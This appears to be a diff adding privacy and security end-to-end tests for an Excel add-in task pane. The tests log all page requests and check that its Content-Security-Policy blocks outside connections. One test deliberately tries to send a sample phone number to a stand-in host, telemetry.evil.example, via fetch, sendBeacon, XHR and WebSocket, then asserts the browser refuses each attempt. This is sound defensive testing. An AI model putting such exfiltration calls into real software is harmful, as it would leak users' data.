@@ -20,6 +20,7 @@ import { LABELS, translate, type LabelKey, type Vars } from "../../src/taskpane/
 import { FINDINGS_SHEET, OWNED_COLUMNS, REVIEW_SHEET_PREFIX } from "../../src/workbook/owned";
 import type { FakeExcel } from "../excel/fake-excel";
 import { specOf } from "../excel/spec";
+import { recordReliability } from "../reliability";
 
 jest.setTimeout(120_000);
 
@@ -150,6 +151,12 @@ let userDataDir: string | undefined;
 let context: BrowserContext | undefined;
 let page: Page;
 const requests: string[] = [];
+/** The same, seen by the page itself (page.on("request")), and any WebSocket it opens. */
+const pageRequests: string[] = [];
+const webSockets: string[] = [];
+/** Requests that failed (URL → Chromium's reason), and those that reached the test's route off the local origin. */
+const failures = new Map<string, string>();
+const routed: string[] = [];
 let loadedAt = 0;
 const pageErrors: string[] = [];
 const consoleErrors: string[] = [];
@@ -204,13 +211,19 @@ beforeAll(async () => {
   });
   context.setDefaultTimeout(20_000);
   context.on("request", (r) => requests.push(r.url()));
+  context.on("requestfailed", (r) => failures.set(r.url(), r.failure()?.errorText ?? ""));
   // Anything off the local origin is recorded above and then refused, so the assertion below is the only judge.
-  await context.route((url) => url.origin !== origin, (route) => route.abort("blockedbyclient"));
+  await context.route((url) => url.origin !== origin, (route) => {
+    routed.push(route.request().url());
+    return route.abort("blockedbyclient");
+  });
 
   page = context.pages()[0] ?? (await context.newPage());
   // Before the page's own scripts: the workbook, then the fake Excel host built from it.
   await page.addInitScript({ content: `window.__crmSpec = ${JSON.stringify(SPEC)};` });
   await page.addInitScript({ content: hostJs });
+  page.on("request", (r) => pageRequests.push(r.url()));
+  page.on("websocket", (ws) => webSockets.push(ws.url()));
   page.on("pageerror", (e) => pageErrors.push(String(e)));
   page.on("console", (m) => m.type() === "error" && consoleErrors.push(m.text()));
   await page.goto(`${origin}/taskpane.html`, { waitUntil: "load" });
@@ -374,5 +387,74 @@ describe("the production task pane in Chromium over the fake Excel", () => {
     expect(notFound).toEqual([]);
     expect(served).toContain("/office-js/office.js");
     expect(pageErrors).toEqual([]);
+  });
+
+  // Issue 8, "Privacy and security": through every scenario above (load, validate, apply, highlight, review,
+  // keyboard), the page's own request log — page.on("request"), beside the context's — holds only files of the
+  // add-in: same origin, GET of a file that is in the served dist/, no WebSocket, nothing else.
+  test("every request the page made through all the scenarios is one of the add-in's own files in dist/", async () => {
+    await watchedLongEnough();
+    const distFile = (u: string) => {
+      const url = new URL(u);
+      if (url.origin !== origin || url.search !== "" || url.hash !== "") return false;
+      const file = path.join(DIST, decodeURIComponent(url.pathname));
+      return file.startsWith(DIST + path.sep) && fs.existsSync(file) && fs.statSync(file).isFile();
+    };
+    const foreign = [...pageRequests, ...webSockets].filter((u) => !distFile(u));
+    recordReliability("e2e-network", {
+      group: "privacy and security",
+      what: "任务窗格页面发出的请求（全部场景） requests the task pane page made through every E2E scenario",
+      tried: pageRequests.length + webSockets.length,
+      failed: foreign.length,
+      where: "test/e2e/pane.e2e.test.ts (production build in Chromium)",
+    });
+    expect(pageRequests.length).toBeGreaterThanOrEqual(6);
+    expect(foreign).toEqual([]);
+    expect(webSockets).toEqual([]);
+    // The context saw nothing the page did not (no worker or popup of its own went elsewhere).
+    expect(requests.filter((u) => !distFile(u))).toEqual([]);
+  });
+
+  test("the page's Content-Security-Policy: connect-src 'self', enforced by Chromium before any request leaves", async () => {
+    const policy = await page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute("content") ?? "");
+    const directives = new Map(policy.split(";").map((d) => d.trim().split(/\s+/)).filter((d) => d[0]).map(([name, ...src]) => [name, src]));
+    expect(directives.get("connect-src")).toEqual(["'self'"]);
+    expect(directives.get("frame-src")).toEqual(["'self'"]);
+    // Now try to send data out the ways a script would: the browser refuses each one by the policy, so the
+    // request log does not grow (the context's route would only have refused them after they were made).
+    const before = requests.length;
+    const blocked = await page.evaluate(async () => {
+      const violations: string[] = [];
+      document.addEventListener("securitypolicyviolation", (e) => violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
+      const attempts: string[] = [];
+      await fetch("https://telemetry.evil.example/collect?phone=13812345678").catch((e) => attempts.push(`fetch: ${String(e)}`));
+      attempts.push(`beacon: ${navigator.sendBeacon("https://telemetry.evil.example/beacon", "13812345678")}`);
+      await new Promise<void>((resolve) => {
+        const x = new XMLHttpRequest();
+        x.onloadend = () => resolve();
+        try {
+          x.open("POST", "https://telemetry.evil.example/xhr");
+          x.send("13812345678");
+        } catch (e) {
+          attempts.push(`xhr: ${String(e)}`);
+          resolve();
+        }
+      });
+      try {
+        new WebSocket("wss://telemetry.evil.example/ws");
+      } catch (e) {
+        attempts.push(`ws: ${String(e)}`);
+      }
+      await new Promise((resolve) => setTimeout(resolve, 200));
+      return { violations, attempts };
+    });
+    process.stdout.write(`e2e: outside connections tried from the page: ${JSON.stringify(blocked)}\n`);
+    expect(blocked.violations.filter((v) => v.startsWith("connect-src")).length).toBeGreaterThanOrEqual(3);
+    // Chromium reports the XHR as a request that failed with "csp": refused by the policy, it never reached the
+    // network layer (the test's route, which would refuse anything off the local origin, saw nothing all run).
+    const outside = requests.slice(before).filter((u) => new URL(u).origin !== origin);
+    expect(outside.map((u) => [u, failures.get(u)]).filter(([, why]) => why !== "csp")).toEqual([]);
+    expect(routed).toEqual([]);
+    expect(webSockets).toEqual([]);
   });
 });
